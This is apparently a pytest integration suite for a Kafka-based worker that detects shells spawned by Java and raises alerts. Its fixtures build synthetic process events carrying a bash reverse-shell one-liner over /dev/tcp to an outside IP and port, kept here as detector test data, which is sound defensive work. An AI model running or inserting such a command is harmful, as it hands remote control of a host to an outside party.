"""The worker on the real broker: exact alerts across hosts and topics, restarts, two workers."""

from __future__ import annotations

import re
import subprocess
import sys
import time
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from confluent_kafka import Consumer, Producer, TopicPartition
from confluent_kafka.admin import AdminClient, ConfigResource

from shellwatch.ecs.timestamps import parse_timestamp_ms
from shellwatch.kafka.admin import create_topic
from shellwatch.kafka.documents import produce_documents
from shellwatch.local.process import WorkerProcess
from shellwatch.samples.ecs_factory import connection, execution
from shellwatch.settings import KafkaSettings
from shellwatch.worker.provision import ensure_worker_topics
from tests.integration.deployment import LIVE, PARTITIONS, Deployment, wait_for
from tests.shared import offline_alert_ids

SEQUENCE = "potential-reverse-shell-via-java"
FUTURE = 4_070_908_800_000  # 2099-01-01
Y2022 = 1_656_000_000_000  # 2022-06-23


@pytest.fixture
def deployment(kafka_bootstrap: str, tmp_path: Path) -> Iterator[Deployment]:
    deployed = Deployment(kafka_bootstrap, tmp_path)
    yield deployed
    deployed.stop()


def attack(host: str, conn_ms: int, exec_ms: int, *, ip: str = "185.220.101.4", tag: str = "") -> list[dict[str, Any]]:
    return [
        connection(ts_ms=conn_ms, host_id=host, pid=4242, dest_ip=ip, event_id=f"{host}{tag}-conn"),
        execution(
            ts_ms=exec_ms,
            host_id=host,
            pid=31337,
            parent_pid=4242,
            event_id=f"{host}{tag}-shell",
            args=["/bin/bash", "-c", "bash -i >& /dev/tcp/185.220.101.4/4444 0>&1"],
        ),
    ]


def noise(host: str, start_ms: int, count: int) -> list[dict[str, Any]]:
    return [
        connection(
            ts_ms=start_ms + i * 37,
            host_id=host,
            pid=100 + i,
            dest_ip="93.184.216.34",
            event_id=f"{host}-noise-{i}",
            executable="/usr/sbin/nginx",
        )
        for i in range(count)
    ]


def test_exact_alerts_across_hosts_and_topics(deployment: Deployment) -> None:
    base = LIVE
    hit_9 = attack("host-x9", base + 900, base + 2100)  # connection at x.9 s, exec at x+1.1 s
    exec_first = attack("host-exec-first", base + 1000, base + 1500)
    exec_first.reverse()  # the exec is produced (and arrives) before its connection
    private = attack("host-private", base, base + 500, ip="10.9.8.7")
    too_late = attack("host-late", base, base + 5001)
    future = attack("host-2099", FUTURE, FUTURE + 800)  # a clock far in the future still alerts
    docs = [*noise("host-noise", base, 200), *hit_9, *exec_first, *private, *too_late, *future, *noise("n2", base, 50)]
    expected = offline_alert_ids(docs)
    assert len(expected) == 3 + 5  # three sequences; a known-bad shell alert on each of the five hosts
    deployment.start_worker()
    deployment.wait_ready()
    produced_at = time.time()
    deployment.produce(docs)
    alerts = deployment.alerts_for(len(expected))
    assert {a["event"]["id"] for a in alerts} == expected
    assert len(alerts) == len(expected)  # no duplicates either
    sequences = [a for a in alerts if a["rule"]["id"] == SEQUENCE]
    assert {a["host"]["id"] for a in sequences} == {"host-x9", "host-exec-first", "host-2099"}
    for alert in sequences:
        detected = alert["@timestamp"]
        assert alert["rule"]["id"] == "potential-reverse-shell-via-java"
        assert [e["event"]["id"] for e in alert["detection"]["events"]] == [
            f"{alert['host']['id']}-conn",
            f"{alert['host']['id']}-shell",
        ]
        assert detected.endswith("Z")
    future_alert = next(a for a in sequences if a["host"]["id"] == "host-2099")
    assert future_alert["detection"]["latency_ms"] < 0
    print(f"\nworker alert latency after produce: {max(_detected_s(a) for a in alerts) - produced_at:.2f}s")


def _detected_s(alert: dict[str, Any]) -> float:
    return parse_timestamp_ms(alert["@timestamp"]) / 1000


def test_a_topic_of_2022_data_is_detected_like_live_data(deployment: Deployment) -> None:
    docs = [*noise("old-noise", Y2022, 100), *attack("old-host", Y2022 + 10_000, Y2022 + 14_999)]
    expected = offline_alert_ids(docs)
    assert len(expected) == 2  # the sequence and the shell
    deployment.start_worker()
    deployment.produce(docs)
    assert {a["event"]["id"] for a in deployment.alerts_for(len(expected))} == expected


def committed(bootstrap: str, group: str, topic: str) -> int:
    consumer = Consumer({"bootstrap.servers": bootstrap, "group.id": group, "enable.auto.commit": False})
    try:
        offsets = consumer.committed([TopicPartition(topic, p) for p in range(PARTITIONS)], timeout=10)
        return sum(max(tp.offset, 0) for tp in offsets)
    finally:
        consumer.close()


def test_restart_between_connection_and_exec_recovers_state(deployment: Deployment) -> None:
    conn, shell = attack("host-restart", LIVE, LIVE + 3000)
    first = deployment.start_worker()
    deployment.produce([conn])
    relevant = f"{deployment.app_id}-relevant"
    # Both stages committed past the connection: a restarted worker will not read it again.
    wait_for(
        lambda: committed(deployment.bootstrap, f"{deployment.app_id}-prefilter", deployment.network) == 1,
        60,
        "the pre-filter stage to commit the connection",
    )
    wait_for(
        lambda: committed(deployment.bootstrap, deployment.app_id, relevant) >= 1,
        60,
        "the correlation agent to commit the forwarded connection",
    )
    assert first.stop() == 0
    deployment.produce([shell])
    deployment.start_worker()
    alerts = deployment.alerts_for(2)
    assert {a["event"]["id"] for a in alerts} == offline_alert_ids([conn, shell])
    (alert,) = [a for a in alerts if a["rule"]["id"] == SEQUENCE]
    assert [e["event"]["id"] for e in alert["detection"]["events"]] == ["host-restart-conn", "host-restart-shell"]


def test_two_workers_split_the_partitions_and_raise_every_alert(deployment: Deployment) -> None:
    hosts = [f"host-{i:02d}" for i in range(12)]
    docs = [d for i, h in enumerate(hosts) for d in attack(h, LIVE + i * 10, LIVE + i * 10 + 700)]
    docs += noise("quiet", LIVE, 300)
    expected = offline_alert_ids(docs)
    assert len(expected) == 24
    deployment.start_worker()
    deployment.start_worker()
    deployment.wait_ready(members=2)
    deployment.produce(docs)
    alerts = deployment.alerts_for(len(expected), timeout_s=90)
    assert {a["event"]["id"] for a in alerts} == expected
    # Faust logs each assignment as a table row: "| <relevant topic> | {0-1} |". The latest rows of the
    # two workers must split the relevant topic's partitions between them.
    relevant = f"{deployment.app_id}-relevant"
    shares = [last_assignment(worker.log_path.read_text(errors="replace"), relevant) for worker in deployment.workers]
    assert all(shares) and not shares[0] & shares[1] and shares[0] | shares[1] == set(range(PARTITIONS)), shares


def last_assignment(log: str, topic: str) -> set[int]:
    rows = re.findall(rf"\| {re.escape(topic)}\s*\| \{{([0-9,\- ]+)\}}", log)
    if not rows:
        return set()
    partitions: set[int] = set()
    for part in rows[-1].split(","):
        low, _, high = part.strip().partition("-")
        partitions.update(range(int(low), int(high or low) + 1))
    return partitions


def test_refuses_to_start_when_inputs_are_not_copartitioned(kafka_bootstrap: str, tmp_path: Path) -> None:
    deployment = Deployment(kafka_bootstrap, tmp_path)
    mismatched = f"{deployment.app_id}-process-5"
    create_topic(kafka_bootstrap, mismatched, 5)
    env = {**deployment.env(), "SHELLWATCH_PROCESS_TOPIC": mismatched}
    result = subprocess.run(
        [sys.executable, "-m", "shellwatch", "worker"], env=env, capture_output=True, timeout=120, check=False
    )
    assert result.returncode == 2
    message = result.stderr.decode()
    assert "refusing to start" in message and "not co-partitioned" in message
    assert f"{deployment.network}=3" in message and f"{mismatched}=5" in message


def test_one_mixed_topic_routed_by_event_category(kafka_bootstrap: str, tmp_path: Path) -> None:
    deployment = Deployment(kafka_bootstrap, tmp_path)
    mixed = f"{deployment.app_id}-mixed"
    create_topic(kafka_bootstrap, mixed, PARTITIONS)
    docs = [*noise("mixed-noise", LIVE, 50), *attack("mixed-host", LIVE + 100, LIVE + 600)]
    worker = WorkerProcess({**deployment.env(), "SHELLWATCH_MIXED_TOPIC": mixed}, tmp_path / "mixed.log").start()
    try:
        produce_documents(kafka_bootstrap, docs, network_topic=mixed, process_topic=mixed)
        alerts = deployment.alerts_for(2)
    finally:
        worker.stop()
    assert {a["event"]["id"] for a in alerts} == offline_alert_ids(docs)


def shell_exec(host: str, at_ms: int, command: str, tag: str, **kwargs: Any) -> dict[str, Any]:
    return execution(
        ts_ms=at_ms,
        host_id=host,
        pid=5000,
        parent_pid=4242,
        event_id=f"{host}-{tag}",
        args=["/bin/bash", "-c", command],
        **kwargs,
    )


def test_one_alert_per_case_and_grouping_survives_a_restart(deployment: Deployment) -> None:
    confluence = ["/opt/atlassian/confluence/jre/bin/java", "-classpath", "/opt/atlassian/confluence/bin/x.jar"]
    cases = {
        "java_shell_execution_known_bad": shell_exec("c1", LIVE, "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1", "kb"),
        "confluence_server_spawned_shell_potential_rce": shell_exec(
            "c2", LIVE, "ls /tmp", "cf", parent_executable=confluence[0], parent_args=confluence
        ),
        "java_shell_execution_unusual": shell_exec("c3", LIVE, "whoami", "un"),
        "java_shell_execution_suspicious": shell_exec("c4", LIVE, "id", "su"),
        "java_shell_execution": shell_exec("c5", LIVE, "echo ok", "lo"),
    }
    deployment.start_worker()
    deployment.produce(list(cases.values()))
    alerts = [a for a in deployment.alerts_for(len(cases)) if a["rule"]["id"] == "shell-spawned-by-java"]
    assert {a["host"]["id"]: a["detection"]["case"] for a in alerts} == {
        doc["host"]["id"]: case for case, doc in cases.items()
    }
    assert {a["detection"]["severity"] for a in alerts} == {"critical", "high", "medium", "low"}
    # The same Java process running the same command again inside the hour is grouped, across a restart.
    worker = deployment.workers[-1]
    wait_for(
        lambda: committed(deployment.bootstrap, deployment.app_id, f"{deployment.app_id}-relevant") >= 5,
        60,
        "the agent to commit the first execs",
    )
    assert worker.stop() == 0
    deployment.produce([shell_exec("c4", LIVE + 60_000, "id", "su-again")])
    deployment.start_worker()
    deployment.produce([shell_exec("c4", LIVE + 3_600_000, "id", "su-next-hour")])
    later = deployment.alerts_for(len(cases) + 1)
    c4 = [a for a in later if a["host"]["id"] == "c4"]
    assert [(a["detection"]["events"][0]["event"]["id"], a["detection"]["suppressed_count"]) for a in c4] == [
        ("c4-su", 0),
        ("c4-su-next-hour", 1),
    ]


def test_a_record_the_agent_cannot_handle_is_dead_lettered_and_processing_goes_on(deployment: Deployment) -> None:
    deployment.start_worker()
    deployment.wait_ready()
    relevant = f"{deployment.app_id}-relevant"
    producer = Producer({"bootstrap.servers": deployment.bootstrap})
    producer.produce(
        relevant,
        key=b"host-bad",
        value=b'{"process": {"executable": "/usr/bin/java"',
        partition=0,
        headers=[("origin", b"test")],
    )
    producer.flush(10)
    docs = attack("host-after-bad", LIVE, LIVE + 900)
    deployment.produce(docs)
    assert {a["event"]["id"] for a in deployment.alerts_for(2)} == offline_alert_ids(docs)
    consumer = Consumer(
        {
            "bootstrap.servers": deployment.bootstrap,
            "group.id": f"dlq-{uuid.uuid4().hex}",
            "auto.offset.reset": "earliest",
        }
    )
    consumer.subscribe([f"{deployment.app_id}-dead-letters"])
    try:
        deadline = time.monotonic() + 30
        message = None
        while message is None and time.monotonic() < deadline:
            polled = consumer.poll(0.5)
            message = polled if polled is not None and polled.error() is None else None
    finally:
        consumer.close()
    assert message is not None, "no dead letter arrived"
    headers = dict(message.headers() or [])
    assert message.value() == b'{"process": {"executable": "/usr/bin/java"'
    assert message.key() == b"host-bad"
    assert headers["origin"] == b"test"
    assert headers["__connect.errors.topic"] == relevant.encode()
    assert headers["__connect.errors.partition"] == b"0"
    assert headers["__connect.errors.exception.class.name"] == b"invalid_json"


def test_worker_topics_take_records_as_large_as_the_inputs(kafka_bootstrap: str, tmp_path: Path) -> None:
    app_id = f"it-{uuid.uuid4().hex[:10]}"
    network, process = f"{app_id}-network", f"{app_id}-process"
    create_topic(kafka_bootstrap, network, 2, {"max.message.bytes": str(3 * 1024 * 1024)})
    create_topic(kafka_bootstrap, process, 2)
    kafka = KafkaSettings(
        bootstrap_servers=kafka_bootstrap,
        app_id=app_id,
        network_topic=network,
        process_topic=process,
        alerts_topic=f"{app_id}-alerts",
        dead_letter_topic=f"{app_id}-dead-letters",
    )
    assert ensure_worker_topics(kafka) == 2
    admin = AdminClient({"bootstrap.servers": kafka_bootstrap})
    for topic in (kafka.dead_letter_topic, kafka.relevant_topic):
        future: Any = admin.describe_configs([ConfigResource(ConfigResource.Type.TOPIC, topic)])
        (entries,) = [f.result(timeout=10) for f in future.values()]
        assert int(entries["max.message.bytes"].value) >= 3 * 1024 * 1024 + 64 * 1024
    assert ensure_worker_topics(kafka) == 2  # idempotent
